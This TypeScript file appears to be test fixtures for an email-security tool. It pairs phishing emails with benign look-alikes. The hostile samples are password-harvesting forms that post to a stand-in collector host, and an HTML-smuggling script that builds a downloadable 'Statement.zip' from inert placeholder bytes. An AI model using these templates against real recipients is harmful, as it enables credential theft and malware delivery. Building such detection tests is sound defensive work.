import type { AttackClass } from './attack-class.ts';
import { daysAgo } from './attack-class.ts';
import { mailing } from './markup.ts';

const SLATE = '#3d4f66';

/** A hundred and twenty bytes of the letter A: what would be a program in a real attack. */
const SMUGGLED_BYTES = 'QUFB'.repeat(40);

/** Builds a file on the reader's own machine, past every scanner on the way (MITRE ATT&CK T1027.006). */
export const SMUGGLING_SCRIPT = `<script>
var bytes = atob("${SMUGGLED_BYTES}");
var link = document.createElement('a');
link.href = URL.createObjectURL(new Blob([bytes]));
link.download = 'Statement.zip';
link.click();
</script>`;

/** Letters that act instead of being read. */
export const MARKUP_CLASSES: readonly AttackClass[] = [
  {
    name: 'form in HTML',
    attacks: [
      {
        key: 'attack-form',
        mailbox: 'personal',
        from: { name: 'Mailbox Team', address: 'team@mailbox-upgrade.example' },
        subject: 'Your password expires today',
        html: mailing({
          title: 'Mailbox upgrade',
          colour: SLATE,
          paragraphs: [
            'Dear user,',
            'your password expires today. Enter your password below to keep using your mailbox.',
            `<form action="https://collect-form.example/p" method="post">
<input name="user" value="alex@home.example"><br>
<input type="password" name="password" placeholder="Password"><br>
<button>Keep my password</button>
</form>`,
          ],
        }),
      },
    ],
    twins: [
      {
        key: 'twin-form',
        mailbox: 'personal',
        from: { name: 'City Library', address: 'letter@city-library.example' },
        subject: 'What we read in autumn',
        headers: [
          'List-Unsubscribe: <https://city-library.example/letter/stop/8812>',
          'List-Unsubscribe-Post: List-Unsubscribe=One-Click',
        ],
        html: mailing({
          title: 'City Library',
          colour: '#5b3a6b',
          paragraphs: [
            'Hello Alex,',
            'novels by the fire, a new shelf of maps, and on Saturday we mend books together. Look for something yourself:',
            `<form action="https://city-library.example/search"><input type="hidden" name="from" value="letter"><input name="q" placeholder="Title or author"> <button>Search</button></form>`,
          ],
          button: { href: 'https://city-library.example/autumn', label: 'The whole list' },
          footer: '<a href="https://city-library.example/letter/stop/8812">No more letters</a>',
        }),
      },
    ],
  },
  {
    name: 'script and HTML smuggling',
    attacks: [
      {
        key: 'attack-smuggling-body',
        mailbox: 'work',
        from: { name: 'Statement Service', address: 'statements@ledger-post.example' },
        subject: 'Your statement for October',
        html: `<html><head><title>Statement</title></head><body>
<p>Your statement is being prepared. It will be saved to your computer in a moment.</p>
${SMUGGLING_SCRIPT}
</body></html>
`,
      },
      {
        key: 'attack-smuggling-page',
        mailbox: 'work',
        from: { name: 'Harbour Logistics', address: 'desk@harbour-freight.example' },
        subject: 'Shipping documents 7714',
        text: 'Dear customer,\n\nthe shipping documents are attached. Open them in your browser.\n\nHarbour Logistics\n',
        files: [
          {
            name: 'Shipping_documents_7714.html',
            type: 'text/html',
            content: Buffer.from(`<html><body><p>Loading…</p>${SMUGGLING_SCRIPT}</body></html>`),
          },
        ],
      },
    ],
    twins: [
      {
        key: 'twin-smuggling-body',
        mailbox: 'work',
        from: { name: 'Paper & Ink', address: 'orders@paper-and-ink.example' },
        subject: 'Your order PI-4471',
        html: `<html><head><title>Order</title><script type="application/ld+json">
{"@context":"https://schema.org","@type":"Order","orderNumber":"PI-4471","merchant":{"@type":"Organization","name":"Paper & Ink"}}
</script></head><body>
<p>Hello Alex,</p>
<p>thank you for your order of 200 sheets of cotton paper, 300 g. It leaves us tomorrow.</p>
<p><a href="https://paper-and-ink.example/orders/4471">Follow your order</a></p>
<p>Paper &amp; Ink, Harbour Street 4</p>
</body></html>
`,
      },
    ],
  },
  {
    name: 'sign-in page attached as HTML',
    attacks: [
      {
        key: 'attack-login-page',
        mailbox: 'work',
        from: { name: 'Accounts Receivable', address: 'ar@remit-desk.example' },
        subject: 'Remittance advice 20261014',
        minutesAgo: daysAgo(1, 2),
        text: 'Hello,\n\nplease find the remittance advice attached. Open it and sign in with your e-mail password to view the document.\n\nAccounts Receivable\n',
        files: [
          {
            name: 'Remittance_20261014.html',
            type: 'text/html',
            content: Buffer.from(
              `<html><head><title>Sign in</title></head><body><h2>Sign in to view the document</h2>
<form action="https://collect-form.example/r" method="post">
<input name="user" value="alex.morgan@northwind-studio.example">
<input type="password" name="password">
<button>Sign in</button></form></body></html>`,
            ),
          },
        ],
      },
    ],
    twins: [
      {
        key: 'twin-login-page',
        mailbox: 'work',
        from: { name: 'Clara Winther', address: 'clara@winther.example' },
        subject: 'The page about bookbinding that I saved',
        minutesAgo: daysAgo(1, 5),
        text: 'Dear Alex,\n\nthe page about Japanese binding is no longer online, so here is the copy I kept.\n\nClara\n',
        files: [
          {
            name: 'japanese-binding.html',
            type: 'text/html',
            content: Buffer.from(
              '<html><head><title>Japanese binding</title></head><body><h1>Four holes</h1><p>Mark four holes, wax the thread, begin in the middle.</p></body></html>',
            ),
          },
        ],
      },
    ],
  },
];
